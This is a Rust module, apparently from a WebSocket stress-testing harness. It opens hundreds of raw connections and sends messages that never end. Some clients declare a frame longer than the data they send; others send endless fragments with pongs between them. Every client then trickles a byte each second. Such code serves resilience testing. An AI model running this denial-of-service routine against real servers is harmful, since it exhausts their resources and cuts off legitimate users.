//! Messages that never end: in fragments with pongs between them, and in a frame that is longer than what comes.

use std::time::Duration;

use anyhow::Result;
use tokio::time::sleep;

use crate::attack::client::Crowd;
use crate::attack::raw::{CONTINUATION, PONG, TEXT, frame, head};

const CLIENTS: usize = 400;
const FRAGMENT: usize = 32 * 1024;
/// As many, and the message is nearly as long as it may be.
const FRAGMENTS: usize = 30;
const PACE: Duration = Duration::from_secs(1);

pub(super) async fn attack(crowd: &Crowd) {
    crowd
        .all(crowd.at_least(CLIENTS), |client| begin(crowd, client))
        .await;
}

async fn begin(crowd: &Crowd, client: usize) -> Result<()> {
    let mut peer = crowd.raw_peer(client, "/").await?;
    let fragment = vec![b'x'; FRAGMENT];
    let is_one_frame = client.is_multiple_of(2);
    if is_one_frame {
        peer.send(&head(TEXT, true, (FRAGMENTS + 1) * FRAGMENT))
            .await?;
    } else {
        peer.send(&frame(TEXT, false, b"")).await?;
    }
    for _ in 0..FRAGMENTS {
        if is_one_frame {
            peer.send(&fragment).await?;
        } else {
            peer.send(&frame(CONTINUATION, false, &fragment)).await?;
        }
        crowd.count_sent(1);
    }
    let more = if is_one_frame {
        b"x".to_vec()
    } else {
        [frame(PONG, true, b""), frame(CONTINUATION, false, b"x")].concat()
    };
    loop {
        sleep(PACE).await;
        peer.send(&more).await?;
    }
}
